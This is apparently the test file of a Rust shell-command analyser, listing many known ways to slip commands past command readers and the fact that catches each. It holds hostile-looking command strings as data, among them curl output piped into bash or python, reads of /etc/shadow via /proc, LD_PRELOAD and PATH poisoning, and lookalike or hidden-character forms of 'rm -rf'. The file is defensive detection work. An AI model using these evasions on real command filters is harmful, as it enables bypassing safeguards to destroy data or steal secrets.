//! Known ways round readers of shell commands, each with the fact that catches it.

use super::super::{
    CommandKind, Directory, EffectKind, Influence, Language, OpaqueKind, Origin, RedirectMode,
    ShellFacts, Syntax, analyse,
};

fn effect(facts: &ShellFacts, name: &str, kind: EffectKind) -> bool {
    facts.named(name).any(|command| command.has_effect(kind))
}

fn steers(facts: &ShellFacts, name: &str) -> bool {
    facts
        .assignments
        .iter()
        .any(|a| a.name == name && a.influence == Influence::Code)
}

/// Each: name, text, and what must hold of its facts.
macro_rules! bypasses {
    ($($name:ident: $text:expr, |$facts:ident| $holds:expr;)+) => {
        $(#[test]
        fn $name() {
            let $facts = analyse($text);
            assert!($holds, "{:#?}", $facts);
        })+
    };
}

bypasses! {
    bracket_arithmetic_runs_a_substitution: "echo $[ x='a[$(cmd)]' ]", |f|
        f.runs("cmd") && f.has_opaque(OpaqueKind::Arithmetic);
    test_v_runs_a_subscript: "[[ -v 'a[$(cmd)]' ]]", |f|
        f.runs("cmd") && f.has_opaque(OpaqueKind::Subscript);
    old_test_v_runs_a_subscript: "[ -v 'a[$(cmd)]' ]", |f|
        f.runs("cmd") && f.has_opaque(OpaqueKind::Subscript);
    test_eq_runs_a_subscript: "[[ 'a[$(cmd)]' -eq 0 ]]", |f|
        f.runs("cmd") && f.has_opaque(OpaqueKind::Arithmetic);
    printf_v_runs_a_subscript: "printf -v 'a[$(cmd)]' x", |f|
        f.runs("cmd") && f.has_opaque(OpaqueKind::Subscript);
    read_runs_a_subscript: "read 'a[$(cmd)]' <<< 1", |f|
        f.runs("cmd") && f.has_opaque(OpaqueKind::Subscript);
    unset_runs_a_subscript: "unset 'a[$(cmd)]'", |f|
        f.runs("cmd") && f.has_opaque(OpaqueKind::Subscript);
    declare_runs_a_subscript: "declare -a 'a[$(cmd)]=1'", |f|
        f.runs("cmd") && f.has_opaque(OpaqueKind::Subscript);
    declare_integer_evaluates: "declare -i x='a[$(cmd)]'", |f|
        f.runs("cmd") && f.has_opaque(OpaqueKind::Arithmetic);
    let_evaluates: "let 'x=a[$(cmd)]'", |f|
        f.runs("cmd") && f.has_opaque(OpaqueKind::Arithmetic);
    double_parentheses_evaluate_variables: "x='a[$(cmd)]'; (( x ))", |f|
        f.has_opaque(OpaqueKind::Arithmetic);
    arithmetic_for_evaluates: "for ((i=$(cmd);i<1;i++)); do :; done", |f|
        f.runs("cmd") && f.has_opaque(OpaqueKind::Arithmetic);
    subscript_in_an_assignment: "a[$(cmd)]=1", |f| f.runs("cmd");
    subscript_in_a_parameter: "echo ${a[$(cmd)]}", |f|
        f.runs("cmd") && f.has_opaque(OpaqueKind::Arithmetic);
    offset_in_a_parameter: "echo ${x:$(cmd)}", |f|
        f.runs("cmd") && f.has_opaque(OpaqueKind::Arithmetic);
    default_in_a_parameter: "echo ${x:-$(cmd)}", |f| f.runs("cmd");
    default_in_quotes_in_quotes: "echo \"${x:-'$(cmd)'}\"", |f| f.runs("cmd");
    indirection_evaluates: "x='a[$(cmd)]'; echo ${!x}", |f| f.has_opaque(OpaqueKind::Indirect);
    prompt_transformation_runs: "x='$(cmd)'; echo ${x@P}", |f| f.has_opaque(OpaqueKind::Indirect);
    arithmetic_assigns_path: "(( PATH = 1 ))", |f| steers(&f, "PATH");
    default_assigns_path: ": ${PATH:=/tmp}", |f| steers(&f, "PATH");

    sort_compress_program_abbreviated: "sort --compress-prog sh /tmp/x", |f|
        effect(&f, "sort", EffectKind::Executes) && f.has_opaque(OpaqueKind::Option);
    sort_compress_program_with_equals: "sort --compress-program=rm x", |f|
        effect(&f, "sort", EffectKind::Executes) && f.runs("rm");
    sort_output: "sort -ro out in", |f| effect(&f, "sort", EffectKind::Writes);
    git_ext_transport: "git ls-remote 'ext::sh -c cmd'", |f|
        effect(&f, "git", EffectKind::Executes) && f.runs("sh") && f.runs("cmd");
    git_unknown_transport: "git clone evil::x", |f| f.has_opaque(OpaqueKind::Option);
    git_core_pager: "git -c core.pager='cmd x' log", |f|
        f.runs("cmd") && f.has_opaque(OpaqueKind::Option);
    git_core_ssh_command: "git -c core.sshCommand=cmd fetch", |f| f.runs("cmd");
    git_alias: "git -c alias.x='!cmd' x", |f| f.runs("cmd");
    git_upload_pack: "git fetch --upload-pa=cmd origin", |f| f.runs("cmd");
    git_rebase_exec: "git rebase -x cmd main", |f| f.runs("cmd");
    git_bisect_run: "git bisect run cmd x", |f| f.runs("cmd");
    git_subcommand_after_globals: "git -C dir -c a.b=c push", |f|
        f.named("git").any(|g| g.subcommand.as_deref() == Some("push"));
    sed_write_command: "sed 'w /etc/x' in", |f| effect(&f, "sed", EffectKind::Writes);
    sed_write_flag: "sed 's/a/b/w /etc/x' in", |f| effect(&f, "sed", EffectKind::Writes);
    sed_execute_command: "sed '1e cmd' in", |f|
        effect(&f, "sed", EffectKind::Executes) && f.runs("cmd");
    sed_execute_flag: "sed 's/.*/cmd/e' in", |f|
        effect(&f, "sed", EffectKind::Executes) && f.has_opaque(OpaqueKind::Code);
    sed_in_place: "sed -ni.bak p x", |f| effect(&f, "sed", EffectKind::Writes);
    sed_in_a_cluster: "sed -ne '1e cmd' in", |f| f.runs("cmd");
    sed_plain_is_known: "sed 's/[/]/x/g; 2d' in", |f| !f.is_opaque();
    rg_pre: "rg --pre cmd x", |f| effect(&f, "rg", EffectKind::Executes) && f.runs("cmd");
    find_exec: "find . -name x -exec rm -rf {} +", |f|
        f.named("rm").any(|c| c.has_flag("-r") && c.origin == Origin::Wrapper);
    find_execdir: "find . -execdir cmd {} \\;", |f| f.runs("cmd");
    find_two_execs: "find . -exec a {} \\; -exec b {} \\;", |f| f.runs("a") && f.runs("b");
    find_fprintf: "find . -fprintf /etc/x %p", |f| effect(&f, "find", EffectKind::Writes);
    find_delete: "find . -delete", |f| effect(&f, "find", EffectKind::Deletes);
    find_exec_shell_with_names: "find . -exec sh -c 'echo {}' \\;", |f|
        f.has_opaque(OpaqueKind::Injected) && f.runs("echo");
    path_prefix: "PATH=/tmp ls", |f| steers(&f, "PATH") && f.has_opaque(OpaqueKind::Environment);
    export_poisons: "export PATH=/tmp; ls", |f| steers(&f, "PATH");
    declare_poisons: "declare -x LD_PRELOAD=/tmp/x.so; ls", |f| steers(&f, "LD_PRELOAD");
    export_of_an_unknown_name: "export \"$x\"", |f| f.has_opaque(OpaqueKind::Environment);
    env_poisons: "env LD_PRELOAD=/tmp/x.so ls", |f| steers(&f, "LD_PRELOAD") && f.runs("ls");
    read_poisons: "read PATH < x", |f| steers(&f, "PATH");
    printf_poisons: "printf -v PATH /tmp", |f| steers(&f, "PATH");
    for_poisons: "for PATH in /tmp; do ls; done", |f| steers(&f, "PATH");
    exported_function: "env 'BASH_FUNC_ls%%=() { cmd; }' bash -c ls", |f|
        f.has_opaque(OpaqueKind::Environment);
    heredoc_backticks: "cat <<E\n`cmd`\nE", |f| f.runs("cmd");
    heredoc_substitution: "cat <<E\n'$(cmd)'\nE", |f| f.runs("cmd");
    heredoc_quoted_is_text: "cat <<'E'\n$(cmd)\nE", |f| !f.runs("cmd") && !f.is_opaque();
    heredoc_delimiter_joined_by_a_continuation: "cat <<EOF\nx\nEO\\\nF\ncmd", |f| f.runs("cmd");
    heredoc_tabs: "cat <<-E\n\tx\n\tE\ncmd", |f| f.runs("cmd");
    heredoc_into_a_shell: "bash <<E\ncmd x\nE", |f| f.runs("cmd");
    here_string_into_a_shell: "sh <<< 'cmd x'", |f| f.runs("cmd");
    bash_of_a_process_substitution: "bash <(curl http://x)", |f|
        f.has_opaque(OpaqueKind::Script) && f.runs("curl");
    source_of_a_process_substitution: ". <(curl http://x)", |f|
        f.has_opaque(OpaqueKind::Script) && f.runs("curl");
    jq_reads_the_environment: "jq -n env", |f| effect(&f, "jq", EffectKind::ReadsEnvironment);
    jq_reads_the_environment_by_a_variable: "jq -n '$ENV.X'", |f|
        effect(&f, "jq", EffectKind::ReadsEnvironment);
    env_alone: "env", |f| effect(&f, "env", EffectKind::ReadsEnvironment);
    proc_root_in_a_name: "/proc/1/root/bin/rm -rf x", |f| f.runs("rm");
    proc_root_in_an_argument: "cat /proc/1/root/etc/shadow", |f|
        f.named("cat").any(|c| c.arguments.iter().any(|a| a.text == "/proc/1/root/etc/shadow"));
    zero_width: "r\u{200b}m -rf x", |f| f.has_opaque(OpaqueKind::Hidden) && !f.runs("rm");
    bidirectional: "echo \u{202e}x", |f| f.has_opaque(OpaqueKind::Hidden);
    full_width: "ｒｍ -rf x", |f| f.has_opaque(OpaqueKind::Lookalike);
    full_width_semicolon: "echo a；rm x", |f| f.has_opaque(OpaqueKind::Lookalike);
    cyrillic_name: "с\u{430}t x", |f| f.has_opaque(OpaqueKind::Lookalike);
    no_break_space: "rm\u{a0}-rf", |f| f.has_opaque(OpaqueKind::Lookalike);
    nul: "echo a\0; rm x", |f| f.has_opaque(OpaqueKind::Nul) && f.runs("rm");
    carriage_return: "echo a\r\nrm -rf x\r\n", |f|
        f.has_opaque(OpaqueKind::CarriageReturn) && f.runs("rm");
    ansi_c_quoting: "$'\\x72m' -rf x", |f| f.runs("rm");
    ansi_c_octal_and_unicode: "$'\\162\\u006d' x", |f| f.runs("rm");
    quotes_inside_of_a_name: "r''m \"-r\"f x", |f| f.named("rm").any(|c| c.has_flag("-f"));
    back_slashes_in_a_name: "\\r\\m x", |f| f.runs("rm");
    brace_expansion_makes_a_command: "{rm,-rf,/x}", |f|
        f.named("rm").any(|c| c.has_flag("-rf") && c.arguments.len() == 2);
    brace_expansion_nested: "echo {a,b{c,d}}{1..3}", |f|
        f.named("echo").any(|c| c.arguments.len() == 9);
    brace_expansion_beyond_the_limit: "echo {1..100000}", |f| f.has_opaque(OpaqueKind::Braces);
    glob_as_a_name: "/bin/r? x", |f|
        f.has_opaque(OpaqueKind::Name) && f.commands.iter().all(|c| c.kind == CommandKind::Unknown);
    variable_as_a_name: "$x -rf /", |f| f.has_opaque(OpaqueKind::Name);
    empty_variable_before_a_name: "$x rm y", |f| f.runs("rm") && f.has_opaque(OpaqueKind::Name);
    substitution_as_a_name: "$(echo rm) x", |f| f.has_opaque(OpaqueKind::Name);
    alias: "alias ls='rm -rf'; ls", |f| f.has_opaque(OpaqueKind::Alias) && f.runs("rm");
    printf_into_a_shell: "printf 'rm x' | sh", |f| f.has_opaque(OpaqueKind::Stdin);
    function_hides_a_builtin: "cd() { rm x; }; cd y", |f|
        f.runs("rm") && f.named("cd").any(|c| c.kind == CommandKind::Function);
    coproc: "coproc rm x", |f| f.runs("rm");
    named_coproc: "coproc C { rm x; }", |f| f.runs("rm");
    trap: "trap 'rm x' EXIT", |f| f.named("rm").any(|c| c.origin == Origin::Deferred);
    prompt_command: "PROMPT_COMMAND='rm x'", |f| f.runs("rm") && steers(&f, "PROMPT_COMMAND");
    ps4: "PS4='$(rm x)'; set -x", |f| f.runs("rm") && steers(&f, "PS4");
    bash_env: "BASH_ENV=/tmp/x bash -c ls", |f| steers(&f, "BASH_ENV") && f.runs("ls");
    ld_preload: "LD_PRELOAD=./x.so ls", |f| steers(&f, "LD_PRELOAD");
    tar_checkpoint_action: "tar cf x --checkpoint=1 --checkpoint-action=exec=cmd y", |f|
        f.runs("cmd") && f.has_opaque(OpaqueKind::Option);
    tar_to_command: "tar xf x --to-command cmd", |f| f.runs("cmd");
    tar_compress_program: "tar -I cmd -cf x y", |f| f.runs("cmd");
    ssh_proxy_command: "ssh -o ProxyCommand='cmd x' host", |f|
        f.runs("cmd") && f.has_opaque(OpaqueKind::Option);
    ssh_proxy_command_attached: "ssh -oProxyCommand=cmd host", |f| f.runs("cmd");
    ssh_runs_there: "ssh -p 22 user@host rm -rf x", |f|
        f.named("rm").any(|c| c.origin == Origin::Remote);
    scp_proxy_command: "scp -o ProxyCommand=cmd a b:", |f| f.runs("cmd");
    man_pager: "man -P cmd ls", |f| f.runs("cmd");
    vim_command: "vim -c '!cmd' x", |f| f.runs("cmd") && f.has_opaque(OpaqueKind::Option);
    vim_plus_command: "vim +'!cmd' x", |f| f.runs("cmd");
    less: "less x", |f| effect(&f, "less", EffectKind::Executes);
    xargs: "echo x | xargs rm -f", |f| f.named("rm").any(|c| c.has_flag("-f"));
    xargs_options: "xargs -0 -n 1 -P4 -a file rm", |f| f.runs("rm");
    xargs_replace_in_code: "xargs -I % sh -c 'rm %'", |f|
        f.runs("rm") && f.has_opaque(OpaqueKind::Injected);
    env_split_string: "env -S 'rm -rf x'", |f| f.runs("rm");
    env_split_string_attached: "env '-Srm -rf x'", |f| f.runs("rm");
    env_ignore_and_unset: "env -i -u A B=1 rm x", |f| f.runs("rm");
    busybox: "busybox sh -c 'rm x'", |f| f.runs("rm");
    busybox_applet: "busybox rm x", |f| f.runs("rm");
    line_continuation_in_a_name: "r\\\nm -rf x", |f| f.runs("rm");
    line_continuation_in_an_operator: "true &\\\n& rm x", |f| f.runs("rm");
    line_continuation_in_a_substitution: "echo $\\\n(rm x)", |f| f.runs("rm");
    comment_ends_at_the_line: "true # x \\\nrm y", |f| f.runs("rm");

    sudo: "sudo -u root -E A=1 rm x", |f| f.runs("rm") && f.assignments.iter().any(|a| a.name == "A");
    sudo_unknown_option: "sudo -Q rm x", |f| f.has_opaque(OpaqueKind::Wrapper);
    wrappers_nested: "sudo nice -n 5 timeout -k 1 9 nohup stdbuf -oL setsid rm x", |f|
        f.runs("rm") && !f.is_opaque();
    shell_in_shell: "bash -c \"sh -c 'rm x'\"", |f| f.runs("rm");
    shell_cluster: "bash -xec 'rm x'", |f| f.runs("rm");
    shell_options_with_values: "bash -o pipefail -c 'rm x'", |f| f.runs("rm");
    shell_unknown_code: "bash -c \"$x\"", |f| f.has_opaque(OpaqueKind::Eval);
    shell_script: "bash x.sh", |f| f.has_opaque(OpaqueKind::Script);
    su: "su root -c 'rm x'", |f| f.runs("rm");
    watch: "watch -n 1 'rm x'", |f| f.runs("rm");
    script: "script -qc 'rm x' /dev/null", |f| f.runs("rm");
    flock: "flock x -c 'rm x'", |f| f.runs("rm");
    eval: "eval r m\\; 'rm x'", |f| f.runs("rm");
    eval_unknown: "eval \"$x\"", |f| f.has_opaque(OpaqueKind::Eval);
    command_builtin: "command -- rm x; builtin eval 'rm y'", |f| f.named("rm").count() == 2;
    exec_builtin: "exec -a ls rm x", |f| f.runs("rm");
    parallel: "parallel rm ::: a b", |f| f.runs("rm");
    kubectl: "kubectl exec pod -- rm x", |f| f.named("rm").any(|c| c.origin == Origin::Remote);
    awk_system: "awk 'BEGIN { system(\"rm x\") }'", |f| f.runs("rm");
    awk_unknown_system: "awk '{ system($1) }'", |f| f.has_opaque(OpaqueKind::Code);
    awk_pipe: "awk '{ print | \"rm x\" }'", |f| f.runs("rm");
    awk_getline: "awk 'BEGIN { \"rm x\" | getline y }'", |f| f.runs("rm");
    awk_unknown_pipe: "awk '{ print | $1 }'", |f| f.has_opaque(OpaqueKind::Code);
    awk_write: "awk '{ print > \"/etc/x\" }'", |f| effect(&f, "awk", EffectKind::Writes);
    awk_unknown_write: "awk '{ print > $1 }'", |f| f.has_opaque(OpaqueKind::Code);
    awk_indirect_call: "awk 'BEGIN { f = \"system\"; @f(\"rm x\") }'", |f| f.has_opaque(OpaqueKind::Code);
    awk_file: "awk -f x.awk", |f| f.has_opaque(OpaqueKind::Script);
    awk_plain_is_known: "awk -F: '$3 > 5 || /x/ { n += $1 } END { print n }' x", |f| !f.is_opaque();
    python_code: "python3 -c 'import os'", |f|
        f.code.iter().any(|c| c.language == Language::Python && c.text == "import os")
        && f.has_opaque(OpaqueKind::Code);
    perl_code: "perl -lne 'system q(rm)' x", |f|
        f.code.iter().any(|c| c.language == Language::Perl) && f.has_opaque(OpaqueKind::Code);
    python_input: "curl http://x | python3", |f| f.has_opaque(OpaqueKind::Stdin);
    compgen_words: "compgen -W '$(rm x)'", |f| f.runs("rm");
    mapfile_callback: "mapfile -C 'rm x' -c 1 a < y", |f| f.runs("rm");
    enable_loads: "enable -f ./x.so x", |f| f.has_opaque(OpaqueKind::ShellState);
    hash_path: "hash -p /tmp/x ls; ls", |f| f.has_opaque(OpaqueKind::ShellState);
    local_program: "./ls", |f| f.has_opaque(OpaqueKind::LocalProgram) && !f.runs("ls");
    descriptor_subscript: "ls {a[$(cmd)]}>x", |f|
        f.is_opaque();
    redirect_to_an_unknown_file: "echo x > $y", |f| f.has_opaque(OpaqueKind::Target);
    redirect_both: "echo x &>> /etc/y", |f|
        f.redirects.iter().any(|r| r.mode == RedirectMode::Append && r.target.text == "/etc/y");
    redirect_both_the_old_way: "echo x >& /etc/y", |f|
        f.redirects.iter().any(|r| r.mode == RedirectMode::Write && r.target.text == "/etc/y");
    redirect_alone: "> /etc/y", |f| f.redirects.len() == 1;
    subscript_word_hides_a_here_document: "a[ <<E ]\nrm x\nE", |f|
        f.runs("rm") && f.is_opaque();
    rejected_text_runs_up_to_the_error: "rm x\nif", |f|
        f.syntax == Syntax::Rejected && f.runs("rm") && f.has_opaque(OpaqueKind::Rejected);
    socat_exec: "socat - EXEC:'rm x'", |f| f.runs("rm");
    split_filter: "split --filter='rm x' y", |f| f.runs("rm");
    cd_then_rm: "cd /tmp && rm x; ls", |f|
        f.named("rm").all(|c| c.directory == Directory::OneOf(vec!["/tmp".to_owned()]))
        && f.named("ls").all(|c| c.directory == Directory::OneOf(vec!["/tmp".to_owned(), String::new()]));
    cd_in_a_loop: "while true; do rm x; cd ..; done", |f|
        f.named("rm").all(|c| c.directory == Directory::Unknown);
    cd_in_a_function: "f() { cd ..; }; f; rm x", |f|
        f.named("rm").all(|c| c.directory == Directory::Unknown);
    cd_in_a_subshell: "(cd /tmp; ls); rm x", |f|
        f.named("rm").all(|c| c.directory == Directory::OneOf(vec![String::new()]));
    negated_cd: "! cd /tmp && rm x", |f|
        f.named("rm").all(|c| c.directory != Directory::OneOf(vec!["/tmp".to_owned()]));
}

#[test]
fn more_than_fifty_subcommands() {
    let text = "true; ".repeat(200) + "rm -rf x";
    let facts = analyse(&text);
    assert_eq!(facts.commands.len(), 201);
    assert!(facts.runs("rm") && !facts.is_opaque());
}

#[test]
fn combined_and_abbreviated_options() {
    let facts = analyse("rm -rvf x; rm --recurs y; grep --color=auto z");
    let rms: Vec<_> = facts.named("rm").collect();
    assert!(
        rms.iter()
            .all(|command| command.has_flag("--recursive") || command.has_flag("-r"))
    );
    let grep = facts.named("grep").next().unwrap();
    let color = grep
        .flags
        .iter()
        .find(|flag| flag.name == "--color")
        .unwrap();
    assert_eq!(color.value.as_deref(), Some("auto"));
}
